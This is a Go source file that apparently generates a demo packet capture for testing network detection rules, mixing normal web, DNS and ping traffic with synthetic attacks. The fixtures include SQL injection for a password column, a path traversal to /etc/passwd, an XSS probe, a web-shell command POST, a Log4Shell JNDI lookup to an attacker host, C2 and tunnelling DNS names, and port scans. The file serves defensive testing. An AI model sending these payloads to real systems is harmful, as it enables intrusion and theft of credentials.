package demo

import (
	"io"
	"net/netip"
	"strings"
	"time"

	"github.com/gopacket/gopacket"
	"github.com/gopacket/gopacket/layers"
	"github.com/gopacket/gopacket/pcapgo"

	"github.com/rulec/rulec/internal/pktgen"
)

var (
	client   = netip.MustParseAddr("203.0.113.10")
	attacker = netip.MustParseAddr("198.51.100.66")
	server   = netip.MustParseAddr("192.168.1.10")
	resolver = netip.MustParseAddr("192.168.1.53")
	inside   = netip.MustParseAddr("192.168.1.77")
)

// writer appends frames with increasing timestamps.
type writer struct {
	w    *pcapgo.Writer
	ts   time.Time
	err  error
	port uint16
}

func (w *writer) frame(b []byte) {
	if w.err != nil {
		return
	}
	w.ts = w.ts.Add(time.Millisecond)
	w.err = w.w.WritePacket(gopacket.CaptureInfo{Timestamp: w.ts, CaptureLength: len(b), Length: len(b)}, b)
}

// tcpSession writes a handshake, the request split into segments of at
// most seg bytes, the response and a FIN exchange.
func (w *writer) tcpSession(src, dst netip.Addr, dport uint16, request, response string, seg int) {
	w.port++
	sport := 40000 + w.port
	cseq, sseq := uint32(1000), uint32(5000)
	pkt := func(from, to netip.Addr, sp, dp uint16, flags uint8, seq, ack uint32, payload string) {
		w.frame(pktgen.Build(pktgen.Spec{Src: from, Dst: to, Proto: 6, Sport: sp, Dport: dp, TCPFlags: flags, Seq: seq, Ack: ack, Payload: []byte(payload)}))
	}
	pkt(src, dst, sport, dport, 0x02, cseq, 0, "")
	pkt(dst, src, dport, sport, 0x12, sseq, cseq+1, "")
	cseq++
	sseq++
	pkt(src, dst, sport, dport, 0x10, cseq, sseq, "")
	for len(request) > 0 {
		n := min(seg, len(request))
		pkt(src, dst, sport, dport, 0x18, cseq, sseq, request[:n])
		cseq += uint32(n)
		request = request[n:]
	}
	if response != "" {
		pkt(dst, src, dport, sport, 0x18, sseq, cseq, response)
		sseq += uint32(len(response))
	}
	pkt(src, dst, sport, dport, 0x11, cseq, sseq, "")
	pkt(dst, src, dport, sport, 0x11, sseq, cseq+1, "")
	pkt(src, dst, sport, dport, 0x10, cseq+1, sseq+1, "")
}

func httpGet(path, ua string) string {
	return "GET " + path + " HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: " + ua + "\r\nAccept: */*\r\n\r\n"
}

const okResponse = "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 13\r\n\r\n<html></html>"

// dnsQuery encodes a minimal DNS query for name.
func dnsQuery(id uint16, name string) []byte {
	q := []byte{byte(id >> 8), byte(id), 1, 0, 0, 1, 0, 0, 0, 0, 0, 0}
	for _, label := range strings.Split(name, ".") {
		q = append(q, byte(len(label)))
		q = append(q, label...)
	}
	return append(q, 0, 0, 1, 0, 1)
}

// Write writes the demo pcap to out.
func Write(out io.Writer) error {
	pw := pcapgo.NewWriter(out)
	if err := pw.WriteFileHeader(65535, layers.LinkTypeEthernet); err != nil {
		return err
	}
	w := &writer{w: pw, ts: time.Date(2026, 11, 25, 9, 0, 0, 0, time.UTC)}
	browser := "Mozilla/5.0 (X11; Linux x86_64)"
	w.tcpSession(client, server, 80, httpGet("/index.html", browser), okResponse, 1460)
	w.tcpSession(client, server, 80, httpGet("/products?id=7", browser), okResponse, 1460)
	w.tcpSession(attacker, server, 80, httpGet("/products?id=1%20UNION%20SELECT%20password%20FROM%20users", browser), okResponse, 20)
	w.tcpSession(attacker, server, 80, httpGet("/static/../../../../etc/passwd", browser), okResponse, 1460)
	w.tcpSession(attacker, server, 80, httpGet("/search?q=<script>alert(1)</script>", browser), okResponse, 1460)
	w.tcpSession(attacker, server, 80, httpGet("/login", "sqlmap/1.7.2#stable (https://sqlmap.org)"), okResponse, 1460)
	post := "POST /upload.php HTTP/1.1\r\nHost: shop.example\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 10\r\n\r\ncmd=whoami"
	w.tcpSession(attacker, server, 80, post, okResponse, 1460)
	jndi := "GET / HTTP/1.1\r\nHost: shop.example\r\nX-Api-Version: ${jndi:ldap://198.51.100.66/a}\r\n\r\n"
	w.tcpSession(attacker, server, 80, jndi, "", 1460)
	for i, name := range []string{"www.example.com", "updates.vendor.example", "c2.duckdns.org", strings.Repeat("a", 60) + "." + strings.Repeat("b", 50) + ".tunnel.example", "evil.example"} {
		w.frame(pktgen.Build(pktgen.Spec{Src: inside, Dst: resolver, Proto: 17, Sport: uint16(50000 + i), Dport: 53, Payload: dnsQuery(uint16(i+1), name)}))
	}
	w.frame(pktgen.Build(pktgen.Spec{Src: client, Dst: server, Proto: 1, IType: 8, Payload: make([]byte, 56)}))
	w.frame(pktgen.Build(pktgen.Spec{Src: attacker, Dst: server, Proto: 1, IType: 8, Payload: make([]byte, 1200)}))
	w.frame(pktgen.Build(pktgen.Spec{Src: attacker, Dst: server, Proto: 6, Sport: 41000, Dport: 23, TCPFlags: 0x02}))
	w.frame(pktgen.Build(pktgen.Spec{Src: attacker, Dst: server, Proto: 6, Sport: 41001, Dport: 445, TCPFlags: 0x02}))
	snmp := append([]byte{0x30, 0x26, 0x02, 0x01, 0x01, 0x04, 0x06}, "public"...)
	w.frame(pktgen.Build(pktgen.Spec{Src: attacker, Dst: server, Proto: 17, Sport: 41002, Dport: 161, Payload: snmp}))
	for p := uint16(1); p <= 30; p++ {
		w.frame(pktgen.Build(pktgen.Spec{Src: attacker, Dst: server, Proto: 6, Sport: 42000, Dport: 1000 + p, TCPFlags: 0x02}))
	}
	return w.err
}
